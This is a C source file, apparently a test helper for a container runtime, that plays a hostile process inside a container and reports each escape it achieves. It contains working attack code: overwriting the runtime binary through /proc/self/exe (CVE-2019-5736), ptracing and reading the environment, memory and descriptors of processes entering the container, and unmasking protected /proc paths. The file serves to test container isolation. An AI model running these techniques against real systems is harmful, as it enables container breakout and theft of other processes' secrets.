/*
 * attack: what a hostile process in a container tries. Each line that it
 * prints tells of something that it got; a container that holds prints none.
 * It is linked statically: a rootfs need not have a library.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Programs of others that are kept open; the milliseconds for which a program
 * is tried to be overwritten; descriptors that are tried of each process; lines
 * that are told of them. */
enum { PROGRAMS = 64, PATIENCE = 3000, DESCRIPTORS = 64, LINES = 100 };

static char *
path(const char *format, ...)
{
	static char text[4096];
	va_list list;

	va_start(list, format);
	vsnprintf(text, sizeof(text), format, list);
	va_end(list);
	return text;
}

/* The beginning of a file, "" when it cannot be read. */
static const char *
text_of(const char *file)
{
	static char text[65536];
	int fd = open(file, O_RDONLY | O_CLOEXEC);
	size_t length = 0;
	ssize_t n = 0;

	while (fd != -1 &&
		(n = read(fd, text + length, sizeof(text) - 1 - length)) > 0)
		length += (size_t)n;
	if (fd != -1)
		close(fd);
	text[length] = '\0';
	return text;
}

/* Which descriptors are open here, but for the three that everybody has? And
 * is one of these three a folder? */
static void
descriptors(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;
	struct stat st;
	char link[4096];

	if (dir == NULL) {
		printf("no /proc\n");
		return;
	}
	while ((entry = readdir(dir)) != NULL) {
		int fd = (int)strtol(entry->d_name, NULL, 10);
		ssize_t n = readlinkat(
			dirfd(dir), entry->d_name, link, sizeof(link));

		if (n != -1 && fd != dirfd(dir) &&
			(fd > 2 ||
				(fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))))
			printf("%d is open: %.*s\n", fd, (int)n, link);
	}
	closedir(dir);
}

/* Write to what a descriptor is open on. Returns false while that is a program
 * that runs, which may become possible later. */
static bool
overwrite(int fd)
{
	int to = open(path("/proc/self/fd/%d", fd), O_WRONLY | O_CLOEXEC);

	if (to == -1)
		return errno != ETXTBSY;
	if (write(to, "pwned", 5) == 5)
		printf("a program is overwritten\n");
	close(to);
	return true;
}

/* The same until it is possible. For who has opened /proc/self/exe while that
 * was the runtime's program (CVE-2019-5736). */
static void
overwrite_later(int fd)
{
	const struct timespec millisecond = {.tv_nsec = 1000000};

	for (int i = 0; i < PATIENCE && !overwrite(fd); i++)
		nanosleep(&millisecond, NULL);
}

/* Keep the program of a process open, if it is not one of ours. */
static int
keep_program(const char *pid, struct stat *seen, int *kept, int count)
{
	int fd = open(path("/proc/%s/exe", pid), O_RDONLY | O_CLOEXEC);
	struct stat st;

	if (fd == -1)
		return count;
	if (fstat(fd, &st) == -1 || count == PROGRAMS) {
		close(fd);
		return count;
	}
	for (int i = 0; i < count; i++)
		if (seen[i].st_dev == st.st_dev &&
			seen[i].st_ino == st.st_ino) {
			close(fd);
			return count;
		}
	seen[count] = st;
	kept[count] = fd;
	return count + 1;
}

/* Until there is something to read on standard input: open the program of each
 * process that enters, and try to write to it. The first is our own. */
static void
programs(void)
{
	struct pollfd end = {.fd = 0, .events = POLLIN};
	struct stat seen[PROGRAMS];
	int kept[PROGRAMS];
	int count = keep_program("self", seen, kept, 0);
	struct dirent *entry;

	while (poll(&end, 1, 0) == 0) {
		DIR *dir = opendir("/proc");

		while (dir != NULL && (entry = readdir(dir)) != NULL)
			if (isdigit((unsigned char)entry->d_name[0]))
				count = keep_program(
					entry->d_name, seen, kept, count);
		if (dir != NULL)
			closedir(dir);
		for (int i = 1; i < count; i++)
			overwrite(kept[i]);
	}
}

/* What /proc/PID/status tells of a process, to anybody. */
struct status {
	char name[64];
	uint64_t capabilities; /* in any of the five sets */
};

/* Returns false when there is no such process. */
static bool
read_status(const char *pid, struct status *status)
{
	const char *text = text_of(path("/proc/%s/status", pid));

	if (sscanf(text, "Name: %63s", status->name) != 1)
		return false;
	status->capabilities = 0;
	while ((text = strstr(text, "\nCap")) != NULL) {
		text += strlen("\nCapInh:");
		status->capabilities |= strtoull(text, NULL, 16);
	}
	return true;
}

/* Somebody whom we trace, we, and what has been told. */
struct target {
	char pid[16];
	const struct status *ours;
	char *told[LINES];
};

/* Print a line, unless it has been printed: nobody reads while we are at work,
 * and a terminal that is full would stop us. */
static void
tell(struct target *target, char *line)
{
	int i = 0;

	while (i < LINES && target->told[i] != NULL &&
		strcmp(target->told[i], line) != 0)
		i++;
	if (i == LINES || target->told[i] != NULL) {
		free(line);
		return;
	}
	target->told[i] = line;
	printf("%s\n", line);
}

static bool
is_step(const char *pid)
{
	char link[32] = "";

	return readlink(path("/proc/%s/exe", pid), link, sizeof(link) - 1) !=
		       -1 &&
	       strncmp(link, "/memfd:step", 11) == 0;
}

/*
 * We have got something of a process that enters the container. It counts if it
 * was no command of the container then, which all know by its name; so that is
 * looked at afterwards.
 */
static void
got(struct target *target, const char *what)
{
	struct status now;
	char *line;

	if (!read_status(target->pid, &now) || strcmp(now.name, "victim") == 0)
		return;
	/* The last step has the command's rights, and a pipe of ours. */
	if ((is_step(target->pid) || strcmp(now.name, "memfd:step") == 0) &&
		(strncmp(what, "descriptor", 10) != 0 ||
			strstr(what, ", pipe:") != NULL))
		return;
	if (asprintf(&line, "%s of %s%s", what, now.name,
		    (now.capabilities & ~target->ours->capabilities) != 0
			    ? " with more capabilities"
			    : "") != -1)
		tell(target, line);
}

/* Open each of its descriptors. */
static void
open_descriptors(struct target *target)
{
	char link[4096], what[5000];

	for (int i = 0; i < DESCRIPTORS; i++) {
		ssize_t n = readlink(path("/proc/%s/fd/%d", target->pid, i),
			link, sizeof(link) - 1);

		if (n == -1)
			continue;
		link[n] = '\0';
		snprintf(what, sizeof(what), "%s %d, %s,",
			i > 2 ? "descriptor" : "standard stream", i, link);
		got(target, what);
	}
}

/* Try all that needs the right to trace it, see ptrace(2). */
static void
trace_one(struct target *target)
{
	static const char *const files[] = {"environ", "maps", "auxv"};
	static const char *const links[] = {"exe", "cwd", "root"};
	char link[4096];

	for (size_t i = 0; i < 3; i++)
		if (text_of(path("/proc/%s/%s", target->pid, files[i]))[0] !=
			'\0')
			got(target, files[i]);
	for (size_t i = 0; i < 3; i++)
		if (readlink(path("/proc/%s/%s", target->pid, links[i]), link,
			    sizeof(link)) != -1)
			got(target, links[i]);
	int fd = open(path("/proc/%s/mem", target->pid), O_RDWR | O_CLOEXEC);
	if (fd != -1) {
		got(target, "memory");
		close(fd);
	}
	open_descriptors(target);
	pid_t pid = (pid_t)strtol(target->pid, NULL, 10);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
		got(target, "ptrace");
}

/* Let those go on that we trace: to stop for a signal, and to tell their end
 * first, is what it means to be traced. */
static void
let_go(void)
{
	int status;
	pid_t pid;

	while ((pid = waitpid(-1, &status, __WALL | WNOHANG)) > 0)
		if (WIFSTOPPED(status))
			ptrace(PTRACE_DETACH, pid, NULL, WSTOPSIG(status));
}

/* The PID that was given out last here, as /proc/loadavg ends with it. */
static int
last_pid(void)
{
	const char *last = strrchr(text_of("/proc/loadavg"), ' ');

	return last == NULL ? 0 : (int)strtol(last, NULL, 10);
}

/* Until there is something to read on standard input: try to trace each process
 * that enters, from its first moment until it is a command of the container. */
static void
trace(void)
{
	struct pollfd end = {.fd = 0, .events = POLLIN};
	struct status ours, now;
	struct target target = {.ours = &ours};
	int last = last_pid(), seen = 0;

	if (!read_status("self", &ours))
		printf("no /proc\n");
	while (poll(&end, 1, 0) == 0) {
		bool early = false;

		let_go();
		if (last == last_pid())
			continue;
		snprintf(target.pid, sizeof(target.pid), "%d", ++last);
		while (read_status(target.pid, &now) &&
			strcmp(now.name, "victim") != 0 &&
			poll(&end, 1, 0) == 0) {
			trace_one(&target);
			let_go();
			early = true;
		}
		seen += early ? 1 : 0;
	}
	fprintf(stderr, "processes seen on their way in: %d\n", seen);
}

/* Is it on a mount that is read-only? */
static bool
is_readonly(const char *file)
{
	struct statvfs st;

	return statvfs(file, &st) == 0 && (st.f_flag & ST_RDONLY) != 0;
}

/* Take away what stands over a path, and look whether it is free then. */
static void
unmask_one(const char *file, const char *where)
{
	bool readonly = is_readonly(file);
	struct stat st;

	if (mount(NULL, file, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 &&
		readonly && !is_readonly(file))
		printf("%s: no longer read-only%s\n", file, where);
	if (umount2(file, MNT_DETACH) == 0)
		printf("%s: unmounted%s\n", file, where);
	if (stat(file, &st) == -1 ||
		(S_ISCHR(st.st_mode) && st.st_rdev == 0x103))
		return;
	int fd = open(file, O_WRONLY | O_CLOEXEC);
	if (fd == -1)
		return;
	/* Nothing is written: some of these files do harm. */
	printf("%s: open for writing%s\n", file, where);
	close(fd);
}

/* The same in a user namespace of our own, in which we have all capabilities;
 * and by a new procfs, on which nothing is masked. */
static void
unmask_in_user_namespace(char *const *files)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) == -1)
		return;
	pid_t pid = fork();
	if (pid == 0) {
		for (size_t i = 0; files[i] != NULL; i++)
			unmask_one(files[i], " in a user namespace");
		if (mount("proc", "/proc", "proc", 0, NULL) == 0)
			printf("a new procfs\n");
		fflush(stdout);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

static void
unmask(char *const *files)
{
	for (size_t i = 0; files[i] != NULL; i++)
		unmask_one(files[i], "");
	fflush(stdout);
	unmask_in_user_namespace(files);
}

/* The number after a word is another one at each start. */
static void
cut_number(char *line, const char *word)
{
	char *number = strstr(line, word);

	if (number == NULL)
		return;
	number += strlen(word);
	char *end = number + strspn(number, "0123456789");
	memmove(number, end, strlen(end) + 1);
}

/* Write those lines of a file that begin so; of mountinfo without the IDs of
 * mounts, devices and peer groups, and without cgroups: where none may be made,
 * there is none. Returns false when there is no line. */
static bool
append(FILE *out, const char *file, const char *only)
{
	char *text = strdup(text_of(file)), *rest, *line;
	bool found = false;

	if (text == NULL)
		return false;
	for (line = strtok_r(text, "\n", &rest); line != NULL;
		line = strtok_r(NULL, "\n", &rest)) {
		int skip = 0;

		if (strncmp(line, only, strlen(only)) != 0 ||
			strstr(line, " - cgroup") != NULL)
			continue;
		found = true;
		if (strstr(file, "mountinfo") != NULL)
			sscanf(line, "%*d %*d %*d:%*d %n", &skip);
		cut_number(line, " shared:");
		cut_number(line, " master:");
		fprintf(out, "%s\n", line + skip);
	}
	free(text);
	return found;
}

/*
 * What holds this container: if a fault in its start has weakened it, this
 * differs. "spoiled" when the fault has met us instead.
 */
static void
facts(void)
{
	static const char *const lines[][2] = {{"/proc/self/status", "Uid:"},
		{"/proc/self/status", "Gid:"}, {"/proc/self/status", "Groups:"},
		{"/proc/self/status", "Cap"},
		{"/proc/self/status", "NoNewPrivs:"},
		{"/proc/self/mountinfo", ""}, {"/proc/self/limits", ""},
		{"/proc/self/oom_score_adj", ""}};
	char *text = NULL;
	size_t size;
	FILE *out = open_memstream(&text, &size);
	bool whole = out != NULL;

	for (size_t i = 0; whole && i < sizeof(lines) / sizeof(lines[0]); i++)
		whole = append(out, lines[i][0], lines[i][1]);
	if (out != NULL)
		fclose(out);
	printf("%s", whole ? text : "spoiled\n");
	free(text);
}

/* Say that we are there, and end when a line comes in. */
static void
stay(void)
{
	char c;

	while (read(0, &c, 1) == 1 && c != '\n')
		continue;
}

int
main(int argc, char **argv)
{
	const char *what = argc < 2 ? "" : argv[1];

	if (strcmp(what, "descriptors") == 0) {
		descriptors();
	} else if (strcmp(what, "overwrite") == 0 && argc == 3) {
		overwrite_later((int)strtol(argv[2], NULL, 10));
	} else if (strcmp(what, "unmask") == 0) {
		unmask(argv + 2);
	} else if (strcmp(what, "facts") == 0) {
		facts();
	} else if (what[0] != '\0') {
		printf("ready\n");
		fflush(stdout);
		if (strcmp(what, "programs") == 0)
			programs();
		else if (strcmp(what, "trace") == 0)
			trace();
		else
			stay();
		printf("done\n");
	}
	return 0;
}
